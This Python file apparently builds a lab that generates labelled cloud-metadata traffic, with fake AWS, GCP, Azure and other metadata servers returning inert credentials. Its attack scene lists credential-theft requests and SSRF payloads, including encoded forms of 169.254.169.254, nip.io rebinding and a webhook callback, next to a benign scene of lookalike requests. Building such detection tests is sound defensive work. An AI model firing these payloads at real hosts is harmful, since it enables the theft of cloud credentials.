"""Cloud instance metadata: stand-ins on the well-known addresses, asked by curl; an application that fetches for others."""

from .common import begin
from .scenes import scene
from .web import curl, json, reply, site

CREDENTIALS = ('{"Code":"Success","Type":"AWS-HMAC","AccessKeyId":"ASIAINERTINERTINERT1","SecretAccessKey":"inert/inert/inert/inert/inert/inert/inert",'
               '"Token":"IQoJb3JpZ2luX2VjEINERT","Expiration":"2026-11-23T22:00:00Z"}')


def services(lab, docs=False):
    host = lab.host("metadata", 254).also("169.254.169.254").also("169.254.170.2").also("100.100.100.200").also("168.63.129.16")
    site(host, 80, [
        (r"^PUT /latest/api/token", reply(200, "AQAEAInertInertInert==", "text/plain", "EC2ws")),
        (r"security-credentials/.+", json(CREDENTIALS, server="EC2ws")),
        (r"^GET /v2/credentials", json(CREDENTIALS, server="EC2ws")),
        (r"security-credentials/?$", reply(200, "node-role", "text/plain", "EC2ws")),
        (r"user-data|user_data", reply(200, "#cloud-config\nhostname: node-1\n", "text/plain", "EC2ws")),
        (r"instance-identity/document", json('{"accountId":"123456789012","region":"eu-west-1"}', server="EC2ws")),
        (r"service-accounts/[^/]+/token", json('{"access_token":"ya29.inert","expires_in":3599,"token_type":"Bearer"}', server="Metadata Server for VM", Metadata_Flavor="Google")),
        (r"computeMetadata", reply(200, "inert", "application/text", "Metadata Server for VM", Metadata_Flavor="Google")),
        (r"oauth2/token", json('{"access_token":"eyJ0eXAi.inert","token_type":"Bearer"}', server="IMDS/150.870.65.1475")),
        (r"metadata/(instance|scheduledevents)", json('{"compute":{"name":"node-1"}}', server="IMDS/150.870.65.1475")),
        (r"goalstate", reply(200, '<?xml version="1.0"?><GoalState><Version>2012-11-30</Version></GoalState>', "text/xml")),
        (r"", reply(200, "i-0123456789abcdef0", "text/plain", "EC2ws")),
    ])
    return host


def web(lab):
    host = lab.host("web", 20)
    site(host, 80, [(r"", reply(200, "<html><body>fetched</body></html>"))])
    return host


@scene("attacks-cloud-metadata", dnsmasq="dnsmasq", dig="dnsutils")
def attacks(lab):
    """credentials, user data and identities of AWS, GCP, Azure, Alibaba, DigitalOcean, Oracle, OpenStack; SSRF in its spellings"""
    intruder, app, names = lab.host("intruder", 66), web(lab), lab.host("dns", 53)
    services(lab)
    names.start("dnsmasq", "-k", "-h", "-R", "-u", "root", "--bind-interfaces", "--pid-file=" + lab.path("dnsmasq.pid"), "--address=/nip.io/169.254.169.254", port=53, udp=True)
    begin(lab)
    imds, google = "http://169.254.169.254", ["Metadata-Flavor: Google"]
    curl(intruder, f"{imds}/latest/api/token", method="PUT", headers=["X-aws-ec2-metadata-token-ttl-seconds: 21600"])
    curl(intruder, f"{imds}/latest/meta-data/iam/security-credentials/")
    curl(intruder, f"{imds}/latest/meta-data/iam/security-credentials/node-role")
    curl(intruder, f"{imds}/latest/user-data")
    curl(intruder, f"{imds}/latest/dynamic/instance-identity/document")
    curl(intruder, "http://169.254.170.2/v2/credentials/5f9c1b1e-inert")
    curl(intruder, "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers=google,
         more=["--resolve", "metadata.google.internal:80:169.254.169.254"])
    curl(intruder, f"{imds}/computeMetadata/v1/instance/attributes/kube-env", headers=google)
    curl(intruder, f"{imds}/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", headers=["Metadata: true"])
    curl(intruder, f"{imds}/metadata/instance?api-version=2021-02-01", headers=["Metadata: true"])
    curl(intruder, "http://168.63.129.16/machine/?comp=goalstate", headers=["x-ms-version: 2012-11-30"])
    curl(intruder, "http://100.100.100.200/latest/meta-data/ram/security-credentials/node-role")
    curl(intruder, f"{imds}/metadata/v1.json")
    curl(intruder, f"{imds}/opc/v2/instance/", headers=["Authorization: Bearer Oracle"])
    curl(intruder, f"{imds}/openstack/latest/user_data")
    curl(intruder, f"http://169.254.169.254.nip.io/latest/meta-data/", more=["--resolve", "169.254.169.254.nip.io:80:169.254.169.254"])
    intruder.run("dig", "+tries=1", "+time=2", f"@{names.ip}", "169-254-169-254.nip.io")
    intruder.run("dig", "+tries=1", "+time=2", f"@{names.ip}", "169.254.169.254.nip.io")
    at = f"http://{app.ip}/fetch?url="
    curl(intruder, f"{at}http://169.254.169.254/latest/meta-data/")
    curl(intruder, f"{at}http%3A%2F%2F169.254.169.254%2Flatest%2F")
    curl(intruder, f"{at}http://2852039166/latest/meta-data/")
    curl(intruder, f"{at}http://0xa9fea9fe/latest/meta-data/")
    curl(intruder, f"{at}http://0251.0376.0251.0376/latest/")
    curl(intruder, f"{at}http://[::ffff:a9fe:a9fe]/latest/meta-data/")
    curl(intruder, f"{at}http://[fd00:ec2::254]/latest/meta-data/")
    curl(intruder, f"http://{app.ip}/webhooks", '{"callback":"http://169.254.169.254/latest/meta-data/iam/"}', headers=["Content-Type: application/json"])


@scene("benign-cloud-metadata", dnsmasq="dnsmasq", dig="dnsutils")
def benign(lab):
    """harmless metadata (instance id, region, scheduled events), documentation that names the address, ordinary fetches"""
    app, user, names = web(lab), lab.host("user", 30), lab.host("dns", 53)
    services(lab)
    names.start("dnsmasq", "-k", "-h", "-R", "-u", "root", "--bind-interfaces", "--pid-file=" + lab.path("dnsmasq.pid"), "--address=/nip.io/10.0.0.1", port=53, udp=True)
    begin(lab)
    imds = "http://169.254.169.254"
    for path in ("/latest/meta-data/instance-id", "/latest/meta-data/placement/region", "/latest/meta-data/iam/info", "/openstack/latest", "/opc/", "/metadata/v1/region"):
        curl(user, imds + path, agent="cloud-init/23.1")
    curl(user, f"{imds}/latest/api/", method="PUT", body="")
    curl(user, f"{imds}/computeMetadata/v1/project/project-id", headers=["Metadata-Flavor: Google"])
    curl(user, f"{imds}/computeMetadata/v1/instance/attributes/cluster-name", headers=["Metadata-Flavor: Google"])
    curl(user, f"{imds}/metadata/scheduledevents?api-version=2020-07-01", headers=["Metadata: true"])
    curl(user, "http://169.254.170.2/v2/metadata", agent="amazon-ecs-agent")
    curl(user, "http://169.254.170.2/v2/credentials/5f9c1b1e-inert", agent="aws-sdk-go-v2/1.24.0 os/linux", more=["-m", "2", "-r", "0-0", "-I"])
    curl(user, "http://168.63.129.16/?comp=versions")
    curl(user, "http://100.100.100.200/latest/meta-data/region-id")
    curl(user, f"http://{app.ip}/docs/169.254.169.254/overview.html?ref=search")
    curl(user, f"http://{app.ip}/latest/meta-data/iam/security-credentials/")
    curl(user, f"http://{app.ip}/fetch?url=http://example.org/169.254.169.254")
    curl(user, f"http://{app.ip}/fetch?url=http://[2001:db8::1]/&id=2852039166")
    curl(user, f"http://{app.ip}/fetch?url=http://2852039/x")
    curl(user, f"http://{app.ip}/fetch?url=http://0xa9ff/x")
    curl(user, f"http://{app.ip}/fetch?url=http://0251.1/x")
    curl(user, f"http://{app.ip}/comments", '{"text":"the address 169.254.169.254 is link local"}', headers=["Content-Type: application/json"])
    curl(user, "http://10.77.0.20.nip.io/latest/", more=["--resolve", f"10.77.0.20.nip.io:80:{app.ip}"])
    user.run("dig", "+tries=1", "+time=2", f"@{names.ip}", "10-77-0-169.nip.io")
